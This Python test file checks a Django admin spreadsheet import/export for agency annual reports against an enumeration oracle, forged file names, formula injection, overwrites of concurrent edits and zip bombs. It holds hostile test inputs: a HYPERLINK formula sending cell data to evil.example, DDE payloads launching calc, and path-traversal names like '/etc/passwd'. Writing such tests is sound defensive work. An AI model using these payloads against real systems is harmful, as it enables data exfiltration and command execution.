"""The flat sheet against a careful attacker and two busy reviewers: no oracle on other agencies' figures, no file
read by a name the browser sends, no formula in what we write, a cell changed since the export is not overwritten,
and a sheet too big is refused before it is parsed."""

import csv
import io

import pytest
from django.contrib.auth.models import Group
from django.urls import reverse
from openpyxl import load_workbook

from agencies.models import Agency
from reports import canonical, services
from reports.models import Report
from reports.roles import FILER
from reports.selectors import report_values
from tests.bombs import xlsx_cells
from tests.exports.test_flat import CSV, HEADERS, XLSX, col, confirm, export, preview, sheet_rows, xlsx_bytes
from tests.factories import UserFactory, make_user

pytestmark = pytest.mark.django_db  # (so a database flushed by a transactional test gets its role groups back)

NP = canonical.t3("new_received", "natural_person")
EVIL = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'


def filer_of(client, agency, username="filer"):
    user = UserFactory(username=username, is_staff=True)
    user.groups.add(Group.objects.get(name=FILER))
    agency.members.add(user)
    client.force_login(user)
    return user


def blank_row(name, year=2023):
    return [name, year, "", "2021", "", "", "", *([None] * len(canonical.ALL_KEYS))]


def row_errors(response) -> list[str]:
    result = response.context["result"]
    return ["；".join(str(e) for errs in r.error_dict.values() for e in errs) for r in result.invalid_rows]


def test_guessing_another_agencys_figures_gets_one_answer_for_every_guess(client, county):
    """Before: every guess said 您只能处理本机关的年报 except the stored value, which was skipped as unchanged."""
    theirs = county["reports"]["甲乡"]
    stored = report_values(theirs)[NP]
    filer_of(client, county["agencies"][1])
    rows = [HEADERS]
    for guess in range(40):
        row = blank_row(theirs.agency.name)
        row[col(NP)] = guess
        rows.append(row)
    rows.append(blank_row("根本不存在的乡"))  # a name that exists nowhere
    response = preview(client, xlsx_bytes(rows))
    assert stored in range(40)
    result = response.context["result"]
    assert result.totals["skip"] == 0 and "confirm_form" not in response.context
    errors = row_errors(response)
    assert len(errors) == 41
    # the same message, apart from the name, for another agency and for a name that does not exist
    assert {e.replace(theirs.agency.name, "X").replace("根本不存在的乡", "X") for e in errors} == {
        errors[-1].replace("根本不存在的乡", "X")
    }


def test_a_sheet_of_names_and_years_reveals_nothing(client, county):
    filer_of(client, county["agencies"][1])
    reported, not_reported = county["reports"]["甲乡"], county["agencies"][3]
    response = preview(client, xlsx_bytes([HEADERS, blank_row(reported.agency.name), blank_row(not_reported.name)]))
    first, second = row_errors(response)
    assert first.replace(reported.agency.name, "X") == second.replace(not_reported.name, "X")


def test_the_confirm_step_reads_only_the_users_own_file_under_a_server_chosen_name(admin_client, county, settings):
    rows = sheet_rows(export(admin_client, XLSX, "?year=2023").content)
    rows[1][col(NP)] += 1
    response = preview(admin_client, xlsx_bytes(rows[:2]))
    form = response.context["confirm_form"]
    name = form.initial["import_file_name"]
    stored = settings.MEDIA_ROOT / "flat-import" / str(response.wsgi_request.user.pk) / name
    assert stored.is_file()  # in the project's storage, not the OS temp directory
    victim = settings.MEDIA_ROOT / "victim.txt"
    victim.write_text("do not touch")
    url = reverse("admin:reports_report_process_import")
    data = {f: form.initial.get(f, "") for f in form.fields}
    for forged in ("../../victim.txt", "victim.txt", "/etc/passwd", "0" * 32):
        got = admin_client.post(url, {**data, "import_file_name": forged}, follow=True)
        assert got.status_code == 200
        assert "已过期" in got.content.decode(), forged
    assert victim.read_text() == "do not touch" and stored.is_file()

    # another user (even a superuser) cannot confirm this user's file by its name
    other = make_user("other", role="管理员")
    admin_client.force_login(other)
    got = admin_client.post(url, data, follow=True)
    assert "已过期" in got.content.decode() and stored.is_file()


@pytest.mark.parametrize("field,value", [("format", "99"), ("format", "x"), ("resource", "7")])
def test_a_forged_confirm_form_is_refused_with_a_page_not_a_500(admin_client, county, field, value):
    rows = sheet_rows(export(admin_client, XLSX, "?year=2023").content)
    rows[1][col(NP)] += 1
    form = preview(admin_client, xlsx_bytes(rows[:2])).context["confirm_form"]
    data = {f: form.initial.get(f, "") for f in form.fields}
    got = admin_client.post(reverse("admin:reports_report_process_import"), {**data, field: value})
    assert got.status_code == 200 and "已过期" in got.content.decode()


def test_exports_neutralise_formulas(admin_client, county):
    Agency.objects.filter(pk=county["agencies"][0].pk).update(name=EVIL)
    ws = load_workbook(io.BytesIO(export(admin_client, XLSX, "?year=2023").content)).active
    cells = [row[0] for row in ws.iter_rows(min_row=2) if row[0].value == EVIL]
    assert cells and all(c.data_type == "s" and c.quotePrefix for c in cells)  # text, shown as written
    assert not any(c.data_type == "f" for row in ws.iter_rows() for c in row)
    text = export(admin_client, CSV, "?year=2023").content.decode("utf-8-sig")
    names = [r[0] for r in csv.reader(io.StringIO(text))]
    assert "'" + EVIL in names and EVIL not in names
    # and what we wrote reads back as the same agency
    response = preview(admin_client, ("\ufeff" + text).encode("utf-8"), name="flat.csv", fmt=CSV)
    assert response.context["result"].totals["skip"] == 3


def test_the_history_csv_neutralises_formulas(admin_client, county):
    report = county["reports"]["乙镇"]
    services.report_set_values(report=report, values={NP: 77}, reason="=cmd|' /C calc'!A0")
    services.report_update(report=report, fields={"title": "@SUM(1+1)*cmd|' /C calc'!A0"})
    url = reverse("admin:reports_report_timeline", args=[report.pk]) + "?format=csv"
    rows = list(csv.reader(io.StringIO(admin_client.get(url).content.decode("utf-8-sig"))))
    cells = [c for r in rows for c in r]
    assert "'=cmd|' /C calc'!A0" in cells and "'@SUM(1+1)*cmd|' /C calc'!A0" in cells
    assert not any(c and c[0] in "=+-@" and c != "-" for c in cells)


def test_a_cell_changed_since_the_export_is_not_overwritten(admin_client, county):
    report = county["reports"]["乙镇"]
    rows = sheet_rows(export(admin_client, XLSX, "?year=2023").content)
    row = next(r for r in rows if r[0] == report.agency.name)
    colleague = make_user("colleague")
    services.report_set_values(report=report, values={NP: 50}, user=colleague, reason="电话核实")
    row[col(NP)] = 60
    response = preview(admin_client, xlsx_bytes([rows[0], row]))
    assert "confirm_form" not in response.context
    page = response.content.decode()
    assert canonical.short_label(NP) in page and "colleague" in page
    assert report_values(report)[NP] == 50

    other = canonical.t3("granted", "commercial")  # another cell: merged with the colleague's change
    row[col(NP)] = 50
    row[col(other)] = (row[col(other)] or 0) + 1
    confirm(admin_client, preview(admin_client, xlsx_bytes([rows[0], row])))
    values = report_values(report)
    assert values[NP] == 50 and values[other] == row[col(other)]


def test_a_huge_sheet_is_refused_before_it_is_parsed(admin_client, county, settings):
    response = preview(admin_client, xlsx_cells(2_000_000), name="bomb.xlsx")
    assert response.status_code == 200 and "压缩炸弹" in response.content.decode()
    settings.NIANBAO_FLAT_IMPORT_MAX_ROWS = 10
    text = ",".join(HEADERS) + "\n" + "\n".join(f"乙镇,2023{',' * 200}" for _ in range(50))
    response = preview(admin_client, text.encode("utf-8"), name="flat.csv", fmt=CSV)
    assert "行数过多" in response.content.decode() and Report.objects.filter(year=2023).count() == 3


def test_an_unwritable_media_root_gets_a_message_not_a_500(admin_client, county, settings, tmp_path):
    rows = sheet_rows(export(admin_client, XLSX, "?year=2023").content)
    rows[1][col(NP)] += 1
    blocker = tmp_path / "a-file"
    blocker.write_text("x")
    settings.MEDIA_ROOT = blocker / "media"
    response = preview(admin_client, xlsx_bytes(rows[:2]))
    assert response.status_code == 302
    said = [str(m) for m in admin_client.get(response["Location"]).context["messages"]]
    assert any("存储目录不可写" in m for m in said)
